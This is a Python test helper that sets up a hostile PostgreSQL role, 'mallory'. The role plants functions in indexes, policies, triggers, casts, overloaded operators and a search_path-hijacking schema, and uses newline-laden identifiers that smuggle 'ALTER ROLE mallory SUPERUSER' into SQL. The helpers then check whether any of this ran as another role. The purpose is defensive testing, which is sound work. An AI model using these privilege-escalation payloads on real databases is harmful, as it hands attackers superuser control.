"""A role, mallory, that plants functions wherever PostgreSQL calls functions of a table's owner for a role that uses the table.

A function that runs as another role writes a line to the server's log, which neither a rollback nor a setting of that role
prevents, and tries to become a superuser.
"""

import re

RAN = re.compile(r"mallory ran in (\w+) as ([\w ]+)$", re.M)
ATTEMPTS = [
    "ALTER ROLE mallory SUPERUSER", 'GRANT "Keeper" TO mallory', "RESET ROLE; ALTER ROLE mallory SUPERUSER",
    "SET ROLE postgres; ALTER ROLE mallory SUPERUSER", "SET SESSION AUTHORIZATION postgres; ALTER ROLE mallory SUPERUSER",
    "INSERT INTO m.deferred VALUES (1)", "CREATE TEMP VIEW pg_class AS SELECT m.act('temp')", "SET search_path = m, public",
]  # fmt: skip
FUNCTIONS = f"""
    CREATE TABLE m.deferred (n int);
    GRANT INSERT ON m.deferred TO PUBLIC;
    CREATE FUNCTION m.act(place text) RETURNS bigint LANGUAGE plpgsql AS $$
    DECLARE
        attempt text;
    BEGIN
        IF current_user <> 'mallory' THEN
            RAISE LOG 'mallory ran in % as %', place, current_user;
        END IF;
        IF session_user <> 'mallory' AND place <> 'attempt' THEN
            FOREACH attempt IN ARRAY ARRAY[{", ".join(f"$a${attempt}$a$" for attempt in ATTEMPTS)}] LOOP
                CONTINUE WHEN place = 'commit' AND attempt LIKE 'INSERT%';
                BEGIN
                    EXECUTE attempt;
                    PERFORM m.act('attempt');
                EXCEPTION WHEN OTHERS THEN
                    NULL;
                END;
            END LOOP;
        END IF;
        RETURN 0;
    END $$;
    CREATE FUNCTION m.late() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM m.act('commit'); RETURN NULL; END $$;
    CREATE CONSTRAINT TRIGGER late AFTER INSERT ON m.deferred DEFERRABLE INITIALLY DEFERRED
        FOR EACH ROW EXECUTE FUNCTION m.late();
    CREATE FUNCTION m.zero(place text) RETURNS bigint IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN RETURN m.act(place); END $$;
    CREATE FUNCTION m.yes(place text) RETURNS boolean IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN RETURN m.act(place) = 0; END $$;
    CREATE FUNCTION m.trap() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM m.act('trigger'); RETURN NEW; END $$;
    CREATE TYPE m.mood AS ENUM ('2125435522999532180');
    CREATE FUNCTION m.told(m.mood) RETURNS text LANGUAGE plpgsql AS $$ BEGIN RETURN m.act('cast')::text; END $$;
    CREATE DOMAIN m.positive AS int CHECK (VALUE >= m.zero('domain'));
"""
# For each place, a statement that plants a function there, and one that calls it.
PLACES = {
    "index": ("CREATE INDEX ON {t} ((order_id + m.zero('index')))", "SELECT max(id) FROM {t}"),
    "predicate": ("CREATE INDEX ON {t} (note) WHERE order_id >= m.zero('predicate')", "SELECT max(id) FROM {t} WHERE note = ''"),
    "statistics": ("CREATE STATISTICS m.s ON (order_id + m.zero('statistics')), id FROM {t}", "SELECT max(id) FROM {t}"),
    "policy": ("CREATE POLICY p ON {t} USING (m.yes('policy')); ALTER TABLE {t} ENABLE ROW LEVEL SECURITY",
               "SELECT max(id) FROM {t}"),
    "rule": ("CREATE RULE r AS ON UPDATE TO {t} DO ALSO SELECT m.zero('rule')", "UPDATE {t} SET note = note"),
    "trigger": ("CREATE TRIGGER t BEFORE INSERT OR UPDATE ON {t} FOR EACH ROW EXECUTE FUNCTION m.trap()",
                "UPDATE {t} SET note = note"),
    "default": ("ALTER TABLE {t} ADD late bigint DEFAULT m.zero('default')", "INSERT INTO {t} DEFAULT VALUES"),
    "generated": ("ALTER TABLE {t} ADD stored bigint GENERATED ALWAYS AS (id + m.zero('generated')) STORED",
                  "INSERT INTO {t} DEFAULT VALUES"),
    "checked": ("ALTER TABLE {t} ADD CHECK (order_id >= m.zero('checked'))", "ALTER TABLE {t} ALTER order_id TYPE bigint"),
    "domain": ("ALTER TABLE {t} ADD of_domain m.positive", "UPDATE {t} SET of_domain = 1"),
    "reference": ("GRANT SELECT ON {t} TO PUBLIC; CREATE INDEX ON {t} ((order_id + m.zero('reference')))",
                  "ALTER TABLE {schema}.orders ALTER id TYPE bigint"),
    "partition": ("CREATE INDEX ON {schema}.parted_part ((order_id + m.zero('partition')))",
                  "SELECT max(id) FROM {schema}.parted"),
    "child": ("CREATE INDEX ON {schema}.tree_child ((order_id + m.zero('child')))", "SELECT max(id) FROM {schema}.tree"),
    "parent": (None, "SELECT max(id) FROM {schema}.leaf"),
    "cast": ("CREATE CAST (m.mood AS text) WITH FUNCTION m.told(m.mood)", "SELECT mood::text FROM {schema}.own"),
    "view": ("CREATE VIEW {t}_view AS SELECT id, order_id + m.zero('view') AS order_id, note FROM {t}; "
             "ALTER VIEW {t}_view ALTER id SET DEFAULT public.flake_next('twitter')", "SELECT * FROM {t}_view"),
    "overload": (None, "SELECT format('%s', 'a'::name), count(true), 1::oid = 'pg_class'::regclass"),
    "foreign": (None, None),
}  # fmt: skip
# Tables of another role, some of them linked with ones of mallory's.
OWN = """
    CREATE SCHEMA {schema};
    GRANT ALL ON SCHEMA {schema} TO PUBLIC;
    CREATE TABLE {schema}.orders (id serial PRIMARY KEY);
    CREATE TABLE {schema}.own (id bigint PRIMARY KEY DEFAULT public.flake_next('twitter'), order_id int, note text, mood m.mood);
    CREATE TABLE {schema}.customers (id serial PRIMARY KEY);
    CREATE TABLE {schema}.visits (id serial PRIMARY KEY, customer_id int REFERENCES {schema}.customers);
    CREATE TABLE {schema}.parted (id bigint DEFAULT public.flake_next('twitter'), order_id int) PARTITION BY RANGE (id);
    CREATE TABLE {schema}.parted_part PARTITION OF {schema}.parted DEFAULT;
    CREATE TABLE {schema}.tree (id bigint DEFAULT public.flake_next('twitter'), order_id int);
    CREATE TABLE {schema}.tree_child () INHERITS ({schema}.tree);
    INSERT INTO {schema}.orders SELECT FROM generate_series(1, 3);
    INSERT INTO {schema}.customers SELECT FROM generate_series(1, 3);
    INSERT INTO {schema}.visits (customer_id) SELECT id FROM {schema}.customers;
    INSERT INTO {schema}.own (order_id, note, mood)
        SELECT n, '2125435522999532180', '2125435522999532180' FROM generate_series(1, 3) n;
    INSERT INTO {schema}.parted (order_id) SELECT generate_series(1, 3);
    INSERT INTO {schema}.tree (order_id) SELECT generate_series(1, 3);
    GRANT REFERENCES ON ALL TABLES IN SCHEMA {schema} TO mallory;
"""
# PostgreSQL's own functions have "any" arguments, which these fit better. The operators fit types better.
FORMATS = ["name", "regclass", "text", "regclass, text", "regclass, name", "name, regclass", "name, text", "text, text",
           "text, text, text", "name, text, text, text", "name, regclass, name"]  # fmt: skip
EQUALS = [("oid", "regclass"), ("regclass", "oid"), ("oid", "regtype"), ("oid", "regproc"), ("smallint[]", "smallint[]")]
OVERLOADS = [
    *(f"CREATE FUNCTION public.format(text, {types}) RETURNS text LANGUAGE sql "
      "AS $$ SELECT m.act('overload'); SELECT 'none' $$" for types in FORMATS),
    *(f"CREATE FUNCTION public.{call} RETURNS {type} LANGUAGE sql AS $$ SELECT m.act('overload'); SELECT NULL::{type} $$"
      for call, type in (("concat_ws(text, text, text, text)", "text"), ("cardinality(int2[])", "int"))),
    "CREATE FUNCTION public.counted(bigint, boolean) RETURNS bigint LANGUAGE sql AS $$ SELECT m.act('overload') $$",
    "CREATE AGGREGATE public.count(boolean) (sfunc = public.counted, stype = bigint, initcond = '0')",
    *(f"CREATE FUNCTION public.same_{n}({left}, {right}) RETURNS boolean LANGUAGE sql AS $$ SELECT m.act('overload') = 0 $$; "
      f"CREATE OPERATOR public.= (LEFTARG = {left}, RIGHTARG = {right}, FUNCTION = public.same_{n})"
      for n, (left, right) in enumerate(EQUALS)),
]  # fmt: skip
# A schema with the name of a role comes first in its search_path. These take the place of what the runbook calls.
HIJACKED = """
    CREATE SCHEMA postgres;
    GRANT USAGE ON SCHEMA postgres TO PUBLIC;
    CREATE FUNCTION postgres.flake_next(text) RETURNS bigint LANGUAGE sql AS $$ SELECT m.act('postgres') $$;
    CREATE FUNCTION postgres.flake_start_above(bigint, text) RETURNS bigint LANGUAGE sql AS $$ SELECT m.act('postgres') $$;
    CREATE FUNCTION postgres.flake_check(OUT name text, OUT ok boolean, OUT detail text, OUT hint text) LANGUAGE sql AS
        $$ SELECT NULL::text, m.act('postgres') = 1, NULL::text, NULL::text $$;
    CREATE VIEW postgres.flake_stat AS SELECT m.act('postgres') AS ledger"""
# The end of the line ends a comment, and the rest would be a statement.
NAMES = '''
    CREATE TABLE m."x
ALTER ROLE mallory SUPERUSER; -- " (order_id int, customer_id int);
    CREATE FUNCTION m."f
ALTER ROLE mallory SUPERUSER; -- "() RETURNS int LANGUAGE sql AS 'SELECT 1 AS customers';
'''


def plant(server, *owners):
    """Lets mallory plant everything beside tables of each of these roles, which are in a schema of the role's own."""
    server.sql('CREATE ROLE mallory LOGIN; CREATE ROLE "Keeper" LOGIN; CREATE SCHEMA m AUTHORIZATION mallory')
    server.sql('ALTER DATABASE postgres OWNER TO "Keeper"; GRANT CREATE ON SCHEMA public TO mallory, "Keeper"')
    server.sql("GRANT USAGE ON SCHEMA m TO PUBLIC")
    server.sql("CREATE FOREIGN DATA WRAPPER nothing; CREATE SERVER nowhere FOREIGN DATA WRAPPER nothing")
    # An owner of the database can do that.
    server.sql("ALTER DATABASE postgres SET constraint_exclusion = on")
    act(server, "mallory", FUNCTIONS)
    for owner in owners:
        act(server, owner, OWN.format(schema=schema(owner)))
    for place in PLACES:
        columns = "id bigint PRIMARY KEY DEFAULT public.flake_next('twitter'), order_id int, note text"
        act(server, "mallory", f"CREATE TABLE m.{place} ({columns})",
            f"INSERT INTO m.{place} (order_id, note) SELECT n, '2125435522999532180' FROM generate_series(1, 3) n")  # fmt: skip
    server.sql("""CREATE FOREIGN TABLE m.far (id bigint DEFAULT public.flake_next('twitter'), order_id int) SERVER nowhere;
        ALTER FOREIGN TABLE m.far OWNER TO mallory""")
    for owner in map(schema, owners):
        act(server, "mallory", f"""ALTER TABLE m.reference ADD FOREIGN KEY (order_id) REFERENCES {owner}.orders;
            CREATE TABLE m.above_{owner} (id bigint DEFAULT public.flake_next('twitter'), order_id int)
                PARTITION BY RANGE ((id + m.zero('parent')));
            CREATE TABLE {owner}.leaf PARTITION OF m.above_{owner} FOR VALUES FROM (0) TO (MAXVALUE);
            CREATE INDEX ON {owner}.leaf (id)""")  # fmt: skip
        server.sql(f"ALTER TABLE {owner}.leaf OWNER TO \"{'Keeper' if owner == 'keeper' else 'postgres'}\"")
        for table in ("parted_part", "tree_child"):
            server.sql(f"ALTER TABLE {owner}.{table} OWNER TO mallory")
    for place, (plants, _) in PLACES.items():
        if plants and "{schema}" in plants:
            for owner in owners:
                act(server, "mallory", plants.format(schema=schema(owner)))
        elif plants:
            act(server, "mallory", plants.format(t=f"m.{place}"))
    act(server, "mallory", "GRANT ALL ON ALL TABLES IN SCHEMA m TO PUBLIC", *OVERLOADS, NAMES)


def schema(owner):
    return {"postgres": "postgres_tables", "Keeper": "keeper"}[owner]


def act(server, role, *statements):
    with server.connect(user=role) as db:
        for statement in statements:
            db.execute(statement)


def ran(server):
    """The places whose functions have run as another role."""
    return {place for place, _ in RAN.findall((server.dir / "server.log").read_text())}


def has_risen(server):
    return server.value("""
        SELECT rolsuper OR pg_has_role('mallory', 'Keeper', 'MEMBER') OR pg_has_role('mallory', 'postgres', 'MEMBER')
        FROM pg_roles WHERE rolname = 'mallory'""")
